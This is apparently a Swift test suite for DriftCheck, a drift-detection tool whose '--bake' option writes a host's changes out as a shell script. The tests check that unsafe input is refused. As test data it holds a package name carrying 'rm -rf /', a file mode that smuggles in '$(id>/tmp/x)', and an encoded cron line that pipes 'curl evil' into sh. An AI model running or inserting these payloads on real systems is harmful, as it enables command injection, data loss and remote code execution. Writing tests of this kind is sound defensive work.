import Foundation
import Testing

@testable import DriftCheck

@Suite("Bake")
struct BakeTests {
    @Test(
        "compare --bake writes the host's changes as apply.sh, files/ and a README; a host that looks tampered with is not baked"
    )
    func bakeFromOneHost() throws {
        let fixture = try Fixture()
        try fixture.populateImage()
        let base = try fixture.scan("base.jsonl")
        let dir = fixture.directory
        try dir.write("image/etc/ssh/sshd_config", "PermitRootLogin no\nPasswordAuthentication no\nAllowUsers ops\n")
        try dir.write("image/etc/app/app.conf", "level = 3\n", mode: 0o640)
        chmod(dir.url("image/etc/app/app.conf"), 0o644)
        chmod(dir.url("image/srv/app/config.yml"), 0o600)
        symlink("/etc/app/app.conf", dir.url("image/etc/app.conf"))
        try dir.write("image/opt/blob.bin", "binary\u{0}data")
        let host = try fixture.scan("host.jsonl")
        let bake = dir.url("bake")
        let result = try fixture.compare(base, host, ["--bake", bake])
        #expect(result.status == 1, "\(result.stderr)")
        #expect(result.stderr.contains("driftcheck: wrote \(bake)"), "\(result.stderr)")
        let script = try String(contentsOfFile: bake + "/apply.sh", encoding: .utf8)
        #expect(
            script.contains("install -m 0644 -o 0 -g 0 \"$here/files\"'/etc/ssh/sshd_config' '/etc/ssh/sshd_config'"))
        #expect(script.contains("install -m 0644 -o 0 -g 0 \"$here/files\"'/etc/app/app.conf' '/etc/app/app.conf'"))
        #expect(script.contains("ln -sfn '/etc/app/app.conf' '/etc/app.conf'"))
        #expect(script.contains("chmod 0600 '/srv/app/config.yml'"))
        #expect(
            try String(contentsOfFile: bake + "/files/etc/ssh/sshd_config", encoding: .utf8)
                == "PermitRootLogin no\nPasswordAuthentication no\nAllowUsers ops\n")
        let readme = try String(contentsOfFile: bake + "/README.md", encoding: .utf8)
        #expect(readme.contains("- /etc/ssh/sshd_config: 60 bytes, mode 0644, owner 0:0"), "\(readme)")
        let byHand = try String(contentsOfFile: bake + "/by-hand.txt", encoding: .utf8)
        #expect(byHand.hasPrefix("/opt/blob.bin\t"), "no content kept outside /etc: copied by hand")
        // The script is valid POSIX sh, and shellcheck finds nothing in it.
        #expect(try CommandLineTool.run("/bin/sh", ["-n", bake + "/apply.sh"]).status == 0)
        let lint = try CommandLineTool.run("/usr/bin/env", ["shellcheck", "-s", "sh", bake + "/apply.sh"])
        #expect(lint.status == 0, "\(lint.stdout)")
        let again = try fixture.compare(base, host, ["--bake", bake])
        #expect(again.status == 2 && again.stderr.contains("already exists"), "an existing directory is refused")
        // A setuid program appears: the host is under investigation, and nothing of it is baked.
        try dir.write("image/usr/local/bin/helper", "#!/bin/sh\n", mode: 0o755)
        chmod(dir.url("image/usr/local/bin/helper"), 0o4755)
        let tampered = try fixture.scan("tampered.jsonl")
        let refused = try fixture.compare(base, tampered, ["--bake", dir.url("bake2")])
        #expect(refused.status == 2 && refused.stderr.contains("looks tampered with"), "\(refused.stderr)")
        #expect(!FileManager.default.fileExists(atPath: dir.url("bake2")))
    }

    @Test("names that a script must not carry never reach apply.sh; packages are pinned in the manager's syntax")
    func planRefusesUnsafeNames() throws {
        func item(_ json: String) throws -> JSONValue { try JSONParser.parse(Array(json.utf8)) }
        let items = [
            try item(
                #"{"kind":"package","name":"tcpdump","change":"added","fields":[],"severity":"high","baseline":null,"host":{"manager":"dpkg","version":"4.99.3-1","apt_command":"apt-get install tcpdump"}}"#
            ),
            try item(
                #"{"kind":"package","name":"libpcap0.8:amd64","change":"added","fields":[],"severity":"high","baseline":null,"host":{"manager":"dpkg","version":"1.10.3-1","apt_command":"apt-get install tcpdump"}}"#
            ),
            try item(
                #"{"kind":"package","name":"x;rm -rf /","change":"added","fields":[],"severity":"high","baseline":null,"host":{"manager":"dpkg","version":"1"}}"#
            ),
            try item(
                #"{"kind":"file","name":"/etc/a'b","change":"added","fields":[],"severity":"high","baseline":null,"host":{"type":"file","mode":"0644","uid":0,"gid":0,"size":1}}"#
            ),
            try item(
                #"{"kind":"service","name":"nginx.service","change":"modified","fields":["enabled"],"severity":"high","baseline":{"enabled":"disabled","masked":false},"host":{"enabled":"enabled","masked":false}}"#
            ),
            try item(
                #"{"kind":"file","name":"/usr/bin/ls","change":"modified","fields":["content"],"severity":"critical","tampering":true,"baseline":null,"host":{"type":"file","mode":"0755","uid":0,"gid":0,"size":1}}"#
            ),
        ]
        let removedKeepingConfig = try item(
            #"{"kind":"package","name":"nano","change":"modified","fields":["status"],"severity":"high","#
                + #""baseline":{"manager":"dpkg","version":"7.2-1","status":"install ok installed"},"#
                + #""host":{"manager":"dpkg","version":"7.2-1","status":"deinstall ok config-files"}}"#)
        let plan = BakePlan(items: items + [removedKeepingConfig])
        #expect(plan.deinstall == ["nano"], "apt-get remove, not an install of the same version")
        #expect(BakeDirectory.script(plan, source: "test").contains("apt-get remove -y 'nano'"))
        #expect(plan.install.map(\.name) == ["tcpdump", "libpcap0.8:amd64"])
        #expect(plan.install.map(\.automatic) == [false, true], "apt's command line names only tcpdump")
        #expect(BakeDirectory.packageList(plan) == "tcpdump=4.99.3-1\nlibpcap0.8:amd64=1.10.3-1\n-nano\n")
        #expect(plan.leftOut.contains { $0.contains("a package name a script must not carry") })
        #expect(plan.leftOut.contains { $0.hasPrefix("tampering-grade") && $0.contains("/usr/bin/ls") })
        #expect(plan.byHand.map(\.why) == ["a name a script must not carry"])
        #expect(plan.services.map { "\($0.verb) \($0.name)" } == ["enable nginx.service"])
        let script = BakeDirectory.script(plan, source: "test")
        #expect(!script.contains("rm -rf") && !script.contains("a'b"))
        #expect(script.contains("apt-mark auto 'libpcap0.8:amd64'"))
        var rpm = plan
        rpm.manager = "rpm"
        #expect(BakeDirectory.packageList(rpm).hasPrefix("tcpdump-4.99.3-1\n"))
        #expect(
            BakeDirectory.script(rpm, source: "test").contains(
                "dnf install -y ${DRIFTCHECK_DNF_OPTIONS:-} 'tcpdump-4.99.3-1'"))
        var apk = plan
        apk.manager = "apk"
        #expect(
            BakeDirectory.script(apk, source: "test").contains("apk add ${DRIFTCHECK_APK_OPTIONS:-} 'tcpdump=4.99.3-1'")
        )
    }

    @Test(
        "a forged report cannot bake other content than its digest says, shell through a mode, privilege, or a write through a link"
    )
    func forgedItemsAreRefused() throws {
        func item(_ json: String) throws -> JSONValue { try JSONParser.parse(Array(json.utf8)) }
        let evil = Base64.encode(try #require(GzipStream.compress(Array("* * * * * root curl evil | sh\n".utf8))))
        let honest = Hex.encode(SHA256Hasher.digest(UnsafeRawBufferPointer(start: "ok\n", count: 3)))
        let items = [
            try item(
                #"{"kind":"file","name":"/etc/cron.d/backup","change":"added","fields":[],"severity":"high","baseline":null,"host":{"type":"file","mode":"0644","uid":0,"gid":0,"size":3,"sha256":"\#(honest)","content_gz":"\#(evil)"}}"#
            ),
            try item(
                #"{"kind":"file","name":"/etc/a.conf","change":"modified","fields":["mode"],"severity":"high","baseline":null,"host":{"type":"file","mode":"$(id>/tmp/x)0644","uid":0,"gid":0,"size":1}}"#
            ),
            try item(
                #"{"kind":"file","name":"/usr/bin/find","change":"modified","fields":["mode"],"severity":"medium","baseline":null,"host":{"type":"file","mode":"4755","uid":0,"gid":0,"size":1}}"#
            ),
            try item(
                #"{"kind":"file","name":"/etc/sudoers.d/ops","change":"added","fields":[],"severity":"high","baseline":null,"host":{"type":"file","mode":"0440","uid":0,"gid":0,"size":1}}"#
            ),
            try item(
                #"{"kind":"group","name":"sudo","change":"modified","fields":["members"],"severity":"high","baseline":{"gid":27,"members":[]},"host":{"gid":27,"members":["mallory"]}}"#
            ),
            try item(
                #"{"kind":"file","name":"/etc/x","change":"added","fields":[],"severity":"high","baseline":null,"host":{"type":"symlink","mode":"0777","uid":0,"gid":0,"size":8,"target":"/usr/bin"}}"#
            ),
            try item(
                #"{"kind":"file","name":"/etc/x/ls","change":"added","fields":[],"severity":"high","baseline":null,"host":{"type":"file","mode":"0755","uid":0,"gid":0,"size":1}}"#
            ),
        ]
        let plan = BakePlan(items: items)
        #expect(plan.files.map(\.path) == ["/etc/x"], "only the link: \(plan.files.map(\.path))")
        let byHand = Dictionary(uniqueKeysWithValues: plan.byHand.map { ($0.path, $0.why) })
        #expect(byHand["/etc/cron.d/backup"]?.contains("does not match its digest") == true)
        #expect(byHand["/etc/sudoers.d/ops"]?.contains("grants privilege") == true)
        #expect(byHand["/etc/x/ls"]?.contains("below a link") == true)
        #expect(plan.leftOut.contains("no valid mode, owner and group: file /etc/a.conf"))
        #expect(plan.leftOut.contains("holds setuid, setgid or capabilities, never baked: file /usr/bin/find"))
        #expect(plan.leftOut.contains { $0.hasPrefix("grants privilege, never baked: group sudo") })
        let script = BakeDirectory.script(plan, source: "test")
        #expect(!script.contains("$(id") && !script.contains("4755") && !script.contains("mallory"))
        #expect(script.contains("no_link '/etc/x'"))
    }

    @Test("an account admin with its own private group admin is baked (locked, no keys); membership of sudo is not")
    func privateGroupOfAnAccount() throws {
        let json =
            #"{"kind":"user","name":"admin","change":"added","fields":[],"severity":"high","baseline":null,"#
            + #""host":{"uid":1000,"gid":1000,"home":"/home/admin","shell":"/bin/bash","password":"locked"},"related":["#
            + #"{"kind":"group","name":"admin","change":"added","fields":[],"severity":"high","baseline":null,"#
            + #""host":{"gid":1000,"members":[]}},"#
            + #"{"kind":"group","name":"sudo","change":"modified","fields":["members"],"severity":"high","#
            + #""baseline":{"gid":27,"members":[]},"host":{"gid":27,"members":["admin"]}},"#
            + #"{"kind":"file","name":"/home/admin/.ssh/authorized_keys","change":"added","fields":[],"#
            + #""severity":"high","baseline":null,"host":{"type":"file","mode":"0600","uid":1000,"gid":1000,"size":1}}]}"#
        let plan = BakePlan(items: [try JSONParser.parse(Array(json.utf8))])
        #expect(plan.users.map(\.name) == ["admin"] && plan.groups.map(\.name) == ["admin"])
        #expect(plan.leftOut.contains("grants privilege, never baked: group sudo"))
        let script = BakeDirectory.script(plan, source: "test")
        #expect(
            script.contains("groupadd -g 1000 'admin'") && !script.contains("sudo") && !script.contains("authorized"))
    }
}
